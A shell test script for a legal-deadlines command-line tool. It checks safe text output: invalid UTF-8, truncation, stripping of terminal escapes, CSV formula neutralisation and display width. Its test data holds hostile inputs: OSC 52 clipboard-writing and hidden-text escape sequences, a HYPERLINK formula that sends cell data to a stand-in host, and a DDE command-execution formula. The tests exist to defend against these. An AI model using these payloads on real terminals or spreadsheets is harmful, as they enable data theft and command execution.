#!/bin/sh
# text.sh: text shown to people whatever bytes the database holds: lines and
# cells cut only between characters (never past a string's end), invalid
# UTF-8 shown as U+FFFD, control characters and escape sequences never
# reaching the terminal, spreadsheet formulas neutralised in CSV, JSON that
# never drops a field, and columns by display width.
. "$DL_SRCDIR/tests/lib.sh"
db="$T/x.db"
export DEADLINES_TODAY=2017-06-01
# utf8 FILE: 0 if FILE is valid UTF-8
utf8() { iconv -f UTF-8 -t UTF-8 "$1" >/dev/null 2>&1; }
# sql SQL: change the database behind the program's back, as an older
# version or another tool may have left it
sql() { sqlite3 "$db" "$1"; }
fffd=$(printf '\357\277\275')

dl -d "$db" case add 1:25-cv-00077 --court txsd --caption "Able v. Baker" >/dev/null

# 1. A change line longer than the old 512-byte buffer, cut there inside a
# character, was wrapped past the buffer's end (ASan: stack-buffer-overflow).
e300=$(/usr/bin/python3 -c 'print("\u00e9" * 300)')
dl -d "$db" add --case 1:25-cv-00077 --who Plaintiff --action "$e300" --due 2017-06-20 >/dev/null
run -d "$db" changes
is "$rc" 0 "changes with a 600-byte action"
printf '%s\n' "$out" > "$T/changes.txt"
utf8 "$T/changes.txt"; ok $? "... is valid UTF-8"
is "$(printf '%s' "$out" | tr -d ' \n' | grep -o "$(printf '\303\251')" | wc -l)" 300 "... and shows the whole action, every character"
# a stored value that ends in a lone UTF-8 lead byte (heap over-read)
sql "UPDATE obligations SET action = CAST(X'616263F0' AS TEXT) WHERE id = 1;
 UPDATE cases SET caption = CAST(X'4120762E2042F0' AS TEXT)"
run -d "$db" list
is "$rc" 0 "list with a stored lone lead byte"
printf '%s\n' "$out" > "$T/list.txt"
utf8 "$T/list.txt"; ok $? "... is valid UTF-8"
is "$(printf '%s\n' "$out" | grep -o 'abc.*')" "abc$fffd" "... the byte shown as U+FFFD, and nothing after the string's end"
run -d "$db" case list
printf '%s\n' "$out" > "$T/cases.txt"
utf8 "$T/cases.txt"; ok $? "case list with a stored lone lead byte is valid UTF-8"
is "$(printf '%s\n' "$out" | grep -o 'A v. B.*')" "A v. B$fffd" "... the byte shown as U+FFFD"
# an order's event words cut to their 95-byte field inside a character: the
# trigger was then not valid UTF-8 and 'extract --json' dropped it silently
/usr/bin/python3 -c 'print("IT IS ORDERED that Defendants shall respond within 14 days after the " + "\u00e9" * 60 + " is decided.")' > "$T/event.txt"
run extract "$T/event.txt" --entered 2017-05-19 --court txsd --json
is "$(printf '%s' "$out" | /usr/bin/python3 -c 'import json, sys; t = json.load(sys.stdin)["obligations"][0]["trigger"]; print(t["n"], len(t["event"]) if t else None)')" "14 45" \
	"extract --json keeps the trigger of an event cut to its field (between characters)"

# 6. JSON never drops a field: a stored value that is not UTF-8 (an older
# version let it in) was left out of the document without a word (exit 0)
sql "UPDATE obligations SET who = CAST(X'4A6F73E9' AS TEXT) WHERE id = 1;
 INSERT INTO parties (case_id, name, role) VALUES (1, CAST(X'4C61F16E' AS TEXT), 'defendant');
 UPDATE history SET cause = CAST(X'6361757365FF' AS TEXT) WHERE obligation_id = 1;
 INSERT INTO events (case_id, name, key, on_date, created) VALUES (1, CAST(X'6576656E74FE' AS TEXT), 'event', '2017-05-01', '2017-05-01T00:00:00Z');
 INSERT INTO courts (code, name, state, tz) SELECT 'txsd', 'x', 'TX', 'America/Chicago' WHERE NOT EXISTS (SELECT 1 FROM courts WHERE code = 'txsd');
 INSERT INTO closures (court, on_date, reason, created) VALUES ('txsd', '2017-05-02', CAST(X'7374F66D' AS TEXT), '2017-05-01T00:00:00Z')"
# field CMD PYTHON-EXPRESSION: the expression over the JSON document d
field() {
	cmd=$1
	shift
	dl -d "$db" $cmd | /usr/bin/python3 -c "import json, sys; d = json.load(sys.stdin); print($1)" 2>&1
}
is "$(field "list --json" '[(o["who"], o["action"]) for o in d["obligations"] if o["id"] == 1]')" \
	"[('Jos${fffd}', 'abc${fffd}')]" "list --json: every field, an invalid byte as U+FFFD"
is "$(field "show 1 --json" '(d["action"], d["history"][0]["cause"][-6:])')" "('abc${fffd}', 'cause${fffd}')" \
	"show --json: the action and the history's cause"
is "$(field "changes --json" '[c["action"] for c in d["changes"] if c["id"] == 1][:1]')" "['abc${fffd}']" \
	"changes --json: the action"
is "$(field "case list --json" 'd["cases"][0]["caption"]')" "A v. B${fffd}" "case list --json: the caption"
is "$(field "case show 1:25-cv-00077 --json" 'sorted(p["name"] for p in d["parties"])')" "['La${fffd}n']" \
	"case show --json: the party"
is "$(field "event list 1:25-cv-00077 --json" '[e["name"] for e in d["events"]]')" "['event${fffd}']" \
	"event list --json: the event"
is "$(field "closure list --json" '[c["reason"] for c in d["closures"]]')" "['st${fffd}m']" \
	"closure list --json: the closure"

# 5. Control characters from an order or a stored value never reach the
# terminal: OSC 52 (writes the clipboard), SGR 8 (hides text), a C1 CSI,
# a carriage return that overwrites the line, in every report.
esc=$(printf '\033')
# controlled FILE: the control characters FILE holds (C0 but tab and
# newline, DEL, C1 as UTF-8), as octal, or nothing
controlled() { LC_ALL=C tr -d '\t\n\040-\176\200-\301\303-\377' < "$1" | od -An -c | tr -s ' \n' ' ' | sed 's/^ //;s/ $//'; LC_ALL=C grep -c "$(printf '\302[\200-\237]')" "$1" | sed 's/^0$//'; }
printf 'IT IS ORDERED that Defendants shall \033]52;c;ZXZpbA==\007respond \033[8mto the hidden requests\033[0m within 14 days.\n' > "$T/esc.txt"
for cmd in "extract $T/esc.txt --entered 2017-05-19 --court txsd" "import $T/esc.txt --case 1:25-cv-00077 --entered 2017-05-19"; do
	run -d "$db" $cmd
	printf '%s\n' "$out" "$err" > "$T/shown.txt"
	is "$rc/$(controlled "$T/shown.txt")" "0/" "${cmd%% *} of an order with escape sequences shows no control character"
done
like "$out" "action: ?]52;c;ZXZpbA==?respond ?[8mto the hidden requests?[0m" "... each control shown as '?', the text around it visible"
like "$err" "import: '$T/esc.txt' holds control characters (the first at byte offset 36, 4 in all); each is stored as '?'" \
	"... and import says so"
is "$(sqlite3 "$db" "SELECT count(*) FROM obligations WHERE instr(action, char(27)) OR instr(action, char(7))")/$(sqlite3 "$db" "SELECT count(*) FROM orders WHERE instr(text, char(27))")" "0/0" \
	"... nothing of them is stored (was: the escapes, into feeds and notifications)"
dl -d "$db" feed > "$T/esc.ics"
is "$(LC_ALL=C tr -d '\r\n\t\040-\176\200-\377' < "$T/esc.ics" | wc -c)" 0 "... so the feed holds no control character either (but its CRLF)"
id=$(sqlite3 "$db" "SELECT max(id) FROM obligations")
sql "UPDATE obligations SET who = 'Plaintiff' || char(13) || 'Defendant', note = 'n' || char(155) || '2J',
 scope = 's' || char(27) || '[2J' WHERE id = $id;
 INSERT INTO history (obligation_id, case_id, what, old, new, cause, at)
 SELECT $id, case_id, 'note', NULL, 'x' || char(27) || ']0;title' || char(7), 'c' || char(127), '2017-06-01T00:00:00Z' FROM obligations WHERE id = $id;
 UPDATE cases SET caption = 'A' || char(27) || '[8m v. B', judge = 'J' || char(7)"
for cmd in "list" "list --status all" "show $id" "show $id --explain" "changes" "case list" "case show 1:25-cv-00077" "subscriber list"; do
	run -d "$db" $cmd
	printf '%s\n' "$out" "$err" > "$T/shown.txt"
	is "$(controlled "$T/shown.txt")" "" "$cmd: no control character reaches the terminal"
done
like "$(dl -d "$db" show $id)" "PlaintiffDefendant" "... a carriage return is taken out, not obeyed"
run -d "$db" --color=always list
like "$out" "$esc[" "our own colours still reach the terminal"
run -d "$db" case show "1:25-cv-00077$(printf '\033[8m')"
printf '%s\n' "$out" "$err" > "$T/shown.txt"
is "$(controlled "$T/shown.txt")" "" "an error message quoting a value shows no control character"
# the filter meets characters cut in two where stdio's buffer ends: 400
# actions of 3-byte characters make 60 KB of report
big="$T/big.db"
dl -d "$big" case add 1:1 --court txsd --caption "A v. B" >/dev/null
sqlite3 "$big" "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM n WHERE i < 400)
 INSERT INTO obligations (uid, case_id, kind, who, action, trigger, rules, due_date, basis, status, created, updated)
 SELECT printf('%032x@deadlines', i), 1, 'deadline', 'x', substr(i || '中文字符中文字符', 1, 9)
 || ' 中文字符中文字符中文字符中文字符',
 'none', 'frcp', '2017-06-20', 'stated', 'open', '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z' FROM n"
dl -d "$big" list --format csv > "$T/big.csv"
utf8 "$T/big.csv"; ok $? "a long report of characters of three bytes stays valid UTF-8"
is "$(cut -d, -f8 "$T/big.csv" | tail -n +2 | sort | md5sum)" "$(sqlite3 "$big" "SELECT action FROM obligations" | sort | md5sum)" \
	"... and keeps every character"
# CSV: a value a spreadsheet would run as a formula (OWASP: =, +, -, @, tab,
# carriage return first) is neutralised with a leading quote
for a in '=HYPERLINK("http://x.test/?"&A1,"click")' '+1+2' '-2+3' '@SUM(A1:A2)'; do
	dl -d "$db" add --case 1:25-cv-00077 --who Plaintiff --action "$a" --due 2017-06-22 >/dev/null
done
sql "UPDATE obligations SET action = char(9) || 'tab' WHERE action = '+1+2';
 UPDATE obligations SET who = '=cmd|'' /C calc''!A0' WHERE action = '-2+3'"
run -d "$db" list --format csv
is "$(printf '%s\n' "$out" | /usr/bin/python3 -c '
import csv, sys
bad = [f for row in csv.reader(sys.stdin) for f in row if f[:1] in ("=", "+", "@", "\t", "\r") or (f[:1] == "-" and not f.lstrip("-").isdigit())]
print(len(bad), bad[:3])')" "0 []" "list --format csv: no field begins a formula"
like "$out" "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"click\"\")\"" "... the formula kept, after a quote"
like "$out" "'-2+3" "... also one that begins with a minus"
like "$out" ",19,1:25-cv-00077," "... while the program's own numbers are left alone"
like "$(dl -d "$db" --today 2017-07-01 list --format csv)" ",-11,1:25-cv-00077," "... negative ones too"

# 15. Case numbers are never cut (1:25-cv-00077 and 1:25-cv-00010 both
# showed as "1:25-cv-00…"); columns count display width (a CJK character
# or an emoji takes two columns); on a terminal the report takes its width.
wide="$T/wide.db"
dl -d "$wide" case add 1:25-cv-00077 --court txsd --caption "Able v. Baker" >/dev/null
dl -d "$wide" case add 1:25-cv-00010 --court txsd --caption "Cole v. Dane" >/dev/null
dl -d "$wide" case add 4:2025-cv-000123-ABC-DEF --court txsd --caption "Long v. Number, a caption of some length that wraps" >/dev/null
dl -d "$wide" add --case 1:25-cv-00077 --who Plaintiff --action "serve the exhibit list" --due 2017-06-20 >/dev/null
dl -d "$wide" add --case 1:25-cv-00010 --who "中文字符中文字符" --action "中文字符中文字符中文字符中文字符中文字符中文字符中文字符中文字符中文字符中文字符" --due 2017-06-21 >/dev/null
dl -d "$wide" add --case 4:2025-cv-000123-ABC-DEF --who "📅📅📅📅📅📅📅" --action "attend the conference" --due 2017-06-22 >/dev/null
dl -d "$wide" add --case 4:2025-cv-000123-ABC-DEF --who Parties --action "stay discovery" --until "the court rules" >/dev/null
# columns FILE: each line's display width, and the display column where
# "ACTION" and each action begin (the column after the WHO cell)
columns() {
	/usr/bin/python3 - "$1" <<'PY'
import sys, unicodedata
def width(s):
    return sum(0 if unicodedata.combining(c) else 2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in s)
lines = open(sys.argv[1], encoding="utf-8").read().split("\n")
print(max(width(l) for l in lines))
PY
}
run -d "$wide" list
printf '%s\n' "$out" > "$T/wide.txt"
like "$out" " 1:25-cv-00077 " "list: 1:25-cv-00077 whole"
like "$out" " 1:25-cv-00010 " "... and 1:25-cv-00010 (both were '1:25-cv-00…')"
like "$out" " 4:2025-cv-000123-ABC-DEF " "... and a long one"
like "$out" "   4 4:2025-cv-000123-ABC-DEF  Parties" "... also without a date"
w=$(columns "$T/wide.txt")
ok "$([ "$w" -le 80 ] && echo 0 || echo 1)" "... within 80 display columns, CJK text counted two a character (widest $w)"
is "$(printf '%s\n' "$out" | /usr/bin/python3 -c '
import sys, unicodedata
def width(s):
    return sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in s)
cols = set()
for l in sys.stdin.read().split("\n"):
    for a in ("ACTION", "serve", "\u4e2d\u6587\u5b57\u7b26\u4e2d\u6587\u5b57\u7b26\u4e2d", "attend"):
        i = l.find(a, 40)
        if i >= 0: cols.add(width(l[:i]))
print(len(cols), sorted(cols))')" "1 [67]" "... every action starts in the same display column"
like "$out" "中文字符中…" "... a wide WHO is cut to its 11 columns"
run -d "$wide" case list
like "$out" "4:2025-cv-000123-ABC-DEF  txsd" "case list: the long case number whole"
run -d "$wide" changes
like "$out" " 4:2025-cv-000123-ABC-DEF " "changes: the long case number whole"
printf '%s\n' "$out" > "$T/changes-wide.txt"
w=$(columns "$T/changes-wide.txt")
ok "$([ "$w" -le 80 ] && echo 0 || echo 1)" "... the lines still within 80 columns (widest $w)"
# on a terminal: its width (script gives the command a terminal of 120 columns)
if script -qec true /dev/null >/dev/null 2>&1; then
	tty="$T/tty.db"
	dl -d "$tty" case add 1:25-cv-00077 --court txsd --caption "Able v. Baker" >/dev/null
	dl -d "$tty" add --case 1:25-cv-00077 --who Plaintiff --due 2017-06-20 --action "$(printf 'serve the list %.0s' 1 2 3 4 5 6 7 8 9 10 11 12)" >/dev/null
	script -qec "stty cols 120; DEADLINES_TODAY=2017-06-01 $DL_WRAPPER $DEADLINES_BIN -d $tty list" /dev/null | tr -d '\r' > "$T/tty.txt"
	w=$(columns "$T/tty.txt")
	ok "$([ "$w" -gt 80 ] && [ "$w" -le 120 ] && echo 0 || echo 1)" "list on a terminal of 120 columns takes its width (widest line $w; was 80 at most)"
	like "$(cat "$T/tty.txt")" "1:25-cv-00077" "... with the report"
else
	skip 2 "script (util-linux) cannot give a terminal here"
fi

done_testing
